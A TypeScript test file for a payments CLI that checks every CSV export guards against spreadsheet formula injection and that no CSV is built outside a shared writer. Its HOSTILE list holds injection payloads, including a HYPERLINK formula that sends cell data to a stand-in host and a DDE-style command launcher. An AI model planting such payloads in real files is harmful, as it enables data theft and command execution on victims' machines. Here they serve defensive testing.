import { readFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { reportCsv as reconcileCsv } from '../../commands/reconcile-render.js'
import { reportCsv } from '../../commands/report.js'
import { csvCell, guardText } from '../../src/core/csv.js'
import { transferCsv } from '../../src/core/settlement/transfer-files.js'
import { bankRow, mpesaRow } from '../../src/demo/statements.js'
import type { RunReport } from '../../src/reconciliation/view.js'
import type { BranchRow } from '../../src/reports/report.js'
import { bankStatement, mpesaStatement } from '../../src/sandbox/statement.js'
import type { Charge } from '../../src/sandbox/types.js'
import { exportCsv } from '../../src/settlement/lifecycle.js'
import { rejectsCsv } from '../../src/statements/rejects.js'
import { lineAt, ROOT, stripComments, tsFiles } from '../helpers/imports.js'

/**
 * Every CSV dsh writes is safe to open in a spreadsheet (issue 22, item 3). One table over ALL
 * writers: each is given a hostile text cell and a negative amount, and must write the text with
 * a leading `'` and the amount as the plain number. The architecture part below makes the table
 * complete: a file that uses the CSV writer without a row here fails, and so does CSV built
 * anywhere without the writer.
 */

const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://x/?d="&A1,"Open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
]

interface Written {
  csv: string
  /** The 0-based record (after any preamble) and the column holding the hostile text. */
  text: { row: number; column: string }
  /** Where the amount is, and what it must read (the writer's input was that amount). */
  amount: { row: number; column: string; expect: string }
}

interface Writer {
  name: string
  /** The source file that writes it (the architecture check below compares these). */
  file: string
  write: (hostile: string) => Written
}

const party = (name: string) => ({
  name,
  accountNumber: '0123456789',
  bankName: 'KCB',
  bankCode: '01',
  swift: null,
})

const charge = (over: Partial<Charge>): Charge => ({
  gateway: 'mpesa',
  reference: 'ws_CO_1',
  receipt: 'NLJ7RT61SV',
  attemptRef: 'ABCDEFGHJKLM',
  phone: '254712345678',
  account: '174379',
  amount: '1500',
  currency: 'KES',
  at: '2026-11-03T06:15:22.000Z',
  ...over,
})

const discrepancy = (reference: string) => ({
  id: 'dis_1',
  category: 'amount_mismatch' as const,
  severity: 'high',
  pass: 'reference',
  rule: 'receipt',
  statementLine: {
    id: 'sl_1',
    file: 'mpesa.csv',
    line: 7,
    reference,
    bookedAt: '2026-11-03T06:15:22.000Z',
  },
  payment: { id: 'pay_1', receiptNumber: reference },
  batch: null,
  expectedMinor: 150000n,
  expected: '1500.00',
  actualMinor: 149900n,
  actual: '1499.00',
  differenceMinor: -100n,
  difference: '-1.00',
  currency: 'KES',
  suggestion: null,
})

const branchRow = (branch: string): BranchRow =>
  ({
    branch,
    tenant: 'acme',
    timezone: 'Africa/Nairobi',
    from: '2026-11-28',
    to: '2026-11-28',
    count: 3,
    succeededCount: 2,
    failedCount: 1,
    cancelledCount: 0,
    openCount: 0,
    successRateBp: 6667,
    successRate: '66.67',
    totals: [{ currency: 'KES', amountMinor: -100n, amount: '-1.00', average: '-0.50' }],
    converted: null,
    conversionNote: null,
  }) as unknown as BranchRow

const WRITERS: Writer[] = [
  {
    name: 'dsh settlements export (csv)',
    file: 'src/settlement/lifecycle.ts',
    write: (h) => ({
      csv: exportCsv([
        {
          paymentId: 'pay_1',
          completedAt: '2026-11-03T06:15:22.000Z',
          receiptNumber: h,
          orderId: h,
          currency: 'KES',
          amount: '1500.00',
          fee: '1501.00',
          settlementFeeShare: '0.00',
          net: '-1.00',
        } as never,
      ]),
      text: { row: 0, column: 'receipt_number' },
      amount: { row: 0, column: 'net', expect: '-1.00' },
    }),
  },
  {
    name: 'transfer CSV in the outbox',
    file: 'src/core/settlement/transfer-files.ts',
    write: (h) => ({
      csv: transferCsv({
        reference: 'SETTLEMENT-ABCDEFGHJK',
        valueDate: '2026-11-04',
        createdAt: '2026-11-04T00:00:00.000Z',
        timeZone: 'Africa/Nairobi',
        amountMinor: -100n,
        currency: 'KES',
        debtor: party('ACME LTD'),
        creditor: party(h),
        narrative: 'SETTLEMENT-ABCDEFGHJK westlands',
      }),
      text: { row: 0, column: 'beneficiary_name' },
      amount: { row: 0, column: 'amount', expect: '-1.00' },
    }),
  },
  {
    name: 'dsh reconcile report --format csv',
    file: 'commands/reconcile-render.ts',
    write: (h) => ({
      csv: `${reconcileCsv({ discrepancies: [discrepancy(h)] } as unknown as RunReport)}\n`,
      text: { row: 0, column: 'reference' },
      amount: { row: 0, column: 'difference', expect: '-1.00' },
    }),
  },
  {
    name: 'dsh report --csv',
    file: 'commands/report.ts',
    write: (h) => ({
      csv: reportCsv([branchRow(h)]),
      text: { row: 0, column: 'branch' },
      amount: { row: 0, column: 'amount', expect: '-1.00' },
    }),
  },
  {
    name: 'dsh reconcile import --skip-bad-rows (rejects file)',
    file: 'src/statements/rejects.ts',
    write: (h) => ({
      csv: rejectsCsv([{ line: -1, column: 4, message: 'amount: bad', raw: h }]),
      text: { row: 0, column: 'row' },
      amount: { row: 0, column: 'line', expect: '-1' },
    }),
  },
  {
    name: 'sandbox M-Pesa statement',
    file: 'src/sandbox/statement.ts',
    write: (h) => ({
      csv: mpesaStatement([charge({ attemptRef: h })], {
        shortcode: '174379',
        from: '2026-11-03',
        to: '2026-11-03',
        openingBalanceMinor: -150100n,
      }),
      text: { row: 0, column: 'A/C No.' },
      amount: { row: 0, column: 'Balance', expect: '-1.00' },
    }),
  },
  {
    name: 'sandbox bank statement',
    file: 'src/sandbox/statement.ts',
    write: (h) => ({
      csv: bankStatement(
        [
          charge({
            gateway: 'bank',
            reference: 'trf_1',
            account: '0123',
            narrative: h,
            payeeReference: 'SETTLEMENT-ABCDEFGHJK',
            amount: '100',
          }),
        ],
        { account: '0123', from: '2026-11-03', to: '2026-11-03', openingBalanceMinor: -200n },
      ),
      text: { row: 0, column: 'Description' },
      amount: { row: 0, column: 'Balance', expect: '-1.00' },
    }),
  },
  {
    name: 'demo M-Pesa statement',
    file: 'src/demo/statements.ts',
    write: (h) => ({
      csv: `${mpesaRow(['Receipt No.', 'Completion Time', 'Initiation Time', 'Details', 'Transaction Status', 'Paid In', 'Withdrawn', 'Balance', 'Balance Confirmed', 'Reason Type', 'Other Party Info', 'Linked Transaction ID', 'A/C No.'])}${mpesaRow(['NLJ7RT61SV', '03-11-2026 09:15:22', '03-11-2026 09:15:22', 'Pay Bill Online', 'Completed', '1500.00', '', '-1.00', 'true', 'Pay Bill Online', '254712***678 - CUSTOMER', '', h])}`,
      text: { row: 0, column: 'A/C No.' },
      amount: { row: 0, column: 'Balance', expect: '-1.00' },
    }),
  },
  {
    name: 'demo bank statement',
    file: 'src/demo/statements.ts',
    write: (h) => ({
      csv: `${bankRow(['Date', 'Value Date', 'Description', 'Reference', 'Debit', 'Credit', 'Balance'])}${bankRow(['2026-11-03 09:15:22', '2026-11-03', h, 'SETTLEMENT-ABCDEFGHJK', '', '1.00', '-1.00'])}`,
      text: { row: 0, column: 'Description' },
      amount: { row: 0, column: 'Balance', expect: '-1.00' },
    }),
  },
]

/** The records from the header row on (statements have a preamble), as objects by header. */
function records(csv: string, header: string): Record<string, string>[] {
  const rows: string[][] = parse(csv.replace(/^\ufeff/, ''), {
    relax_column_count: true,
    skip_empty_lines: true,
  })
  const at = rows.findIndex((r) => r.includes(header))
  expect(at, `no header with ${header}`).toBeGreaterThanOrEqual(0)
  const head = rows[at] as string[]
  return rows.slice(at + 1).map((r) => Object.fromEntries(head.map((h, i) => [h, r[i] ?? ''])))
}

describe('every CSV writer guards text cells and leaves numbers alone', () => {
  describe.each(WRITERS)('$name', (w) => {
    it.each(HOSTILE)('text %j comes out with a leading quote; -1.00 stays -1.00', (h) => {
      const out = w.write(h)
      const rows = records(out.csv, out.text.column)
      expect(rows[out.text.row]?.[out.text.column]).toBe(`'${h}`)
      expect(rows[out.amount.row]?.[out.amount.column]).toBe(out.amount.expect)
    })

    it('ordinary text is written as it is', () => {
      const out = w.write('Coffee, "large"')
      const rows = records(out.csv, out.text.column)
      expect(rows[out.text.row]?.[out.text.column]).toBe('Coffee, "large"')
    })
  })

  it('the guard itself: formula starts only, RFC 4180 quoting, numbers never prefixed', () => {
    expect(guardText('=1+1')).toBe("'=1+1")
    expect(guardText('Café =1')).toBe('Café =1')
    expect(csvCell('=1+1', 'text')).toBe("'=1+1")
    expect(csvCell('a,"b"', 'text')).toBe('"a,""b"""')
    expect(csvCell('-1.00', 'number')).toBe('-1.00')
    expect(csvCell('-1,234.56', 'number')).toBe('"-1,234.56"')
    expect(csvCell(-12n, 'number')).toBe('-12')
    expect(csvCell('-1.00', 'text')).toBe("'-1.00")
    // A number column holding something that is not a number is guarded like text.
    expect(csvCell('-1+cmd', 'number')).toBe("'-1+cmd")
    expect(csvCell('=1', 'number', { quote: 'always' })).toBe(`"'=1"`)
    expect(csvCell(null, 'text')).toBe('')
  })
})

// ---------------------------------------------------------------------------------------------
// The table is complete: no CSV is written any other way.

/** Hand-made CSV: a quote doubled for a CSV field, or cells joined with a separator. */
const QUOTE_DOUBLING =
  /\.replace(?:All)?\(\s*(?:'"'|"\\""|`"`|\/"\/g)\s*,\s*(?:'""'|"\\"\\""|`""`)\s*\)/g
const CELL_JOIN = /\.join\(\s*(['"`])(?:,|;|\\t)\1\s*\)/g
/** A CSV-looking literal: a header of three or more comma-separated names. */
const HEADER_LITERAL = /(['"`])[A-Za-z_][\w ./]*(?:,[A-Za-z_][\w ./]*){2,}\1/g

/**
 * `.join(',')` and comma lists that build no CSV, by file and count, with the reason. A new one
 * fails the test: write CSV through src/core/csv.ts, or add it here with its reason.
 */
const NOT_CSV: Record<string, { joins?: number; literals?: number; why: string }> = {
  'src/daemon/metrics.ts': { joins: 1, why: 'Prometheus label set {a="x",b="y"}' },
  'src/core/audit/chain.ts': { joins: 2, why: 'canonical JSON of an audit row' },
  'src/backup/manifest.ts': { joins: 2, why: 'canonical JSON of a backup manifest (its MAC)' },
  'src/store/bulk.ts': { joins: 1, why: 'a cache key of column names' },
  'src/gateway-config/setup.ts': { joins: 1, why: 'a currency list in an error message' },
  'src/tenants/branches.ts': { joins: 3, why: 'the methods column: card,mpesa,cash' },
  'src/core/gateways/config.ts': { joins: 1, why: 'the currencies setting: KES,UGX' },
  'commands/branch.ts': { joins: 1, why: 'the methods in a table cell' },
  'src/demo/setup.ts': { literals: 1, why: 'a branch’s methods: mpesa,card,cash' },
  'src/reports/thresholds.ts': {
    joins: 1,
    why: 'the alert-kyc-amount setting: 1000000,UGX:3700000',
  },
}

const SOURCES = [...tsFiles(join(ROOT, 'src'), true), ...tsFiles(join(ROOT, 'commands'), true)].map(
  (f) => ({ file: relative(ROOT, f), code: stripComments(readFileSync(f, 'utf8')) }),
)

function handMade(file: string, code: string): string[] {
  const out: string[] = []
  const allowed = NOT_CSV[file]
  for (const m of code.matchAll(QUOTE_DOUBLING))
    out.push(`${file}:${lineAt(code, m.index)}: doubles quotes for a CSV field`)
  const literals = [...code.matchAll(HEADER_LITERAL)]
  if (literals.length > (allowed?.literals ?? 0))
    for (const m of literals)
      out.push(`${file}:${lineAt(code, m.index)}: a CSV header written by hand: ${m[0]}`)
  const joins = [...code.matchAll(CELL_JOIN)]
  if (joins.length > (allowed?.joins ?? 0))
    out.push(
      `${file}: ${joins.length} .join(',') (allowed ${allowed?.joins ?? 0}) at line(s) ${joins.map((m) => lineAt(code, m.index)).join(' ')}`,
    )
  return out
}

describe('CSV is written by src/core/csv.ts only, and every writer is in the table', () => {
  it('the scan finds a hand-made writer (so the real check cannot pass by accident)', () => {
    const snippet = [
      "const q = (s: string) => s.replaceAll('\"', '\"\"')",
      'const b = s.replace(/"/g, \'""\')',
      "const head = 'id,amount,currency'",
      "const line = cells.map(q).join(',')",
    ].join('\n')
    expect(handMade('src/x.ts', snippet)).toEqual([
      'src/x.ts:1: doubles quotes for a CSV field',
      'src/x.ts:2: doubles quotes for a CSV field',
      "src/x.ts:3: a CSV header written by hand: 'id,amount,currency'",
      "src/x.ts: 1 .join(',') (allowed 0) at line(s) 4",
    ])
  })

  it('no CSV is built outside src/core/csv.ts', () => {
    const offences = SOURCES.filter((s) => s.file !== 'src/core/csv.ts').flatMap((s) =>
      handMade(s.file, s.code),
    )
    expect(offences, offences.join('\n')).toEqual([])
    // The allowances are still needed (a stale one would hide a new writer in that file).
    for (const [file, a] of Object.entries(NOT_CSV)) {
      const code = SOURCES.find((s) => s.file === file)?.code ?? ''
      expect([...code.matchAll(CELL_JOIN)].length, `${file}: ${a.why}`).toBe(a.joins ?? 0)
      expect([...code.matchAll(HEADER_LITERAL)].length, `${file}: ${a.why}`).toBe(a.literals ?? 0)
    }
  })

  it('every file that writes CSV through the writer is in the table above', () => {
    const users = SOURCES.filter(
      (s) =>
        s.file !== 'src/core/csv.ts' &&
        /from '[./]*(?:src\/)?core\/csv\.js'|from '\.\.\/csv\.js'|from '\.\/csv\.js'/.test(s.code),
    )
      .map((s) => s.file)
      .sort()
    expect(users).toEqual([...new Set(WRITERS.map((w) => w.file))].sort())
  })
})
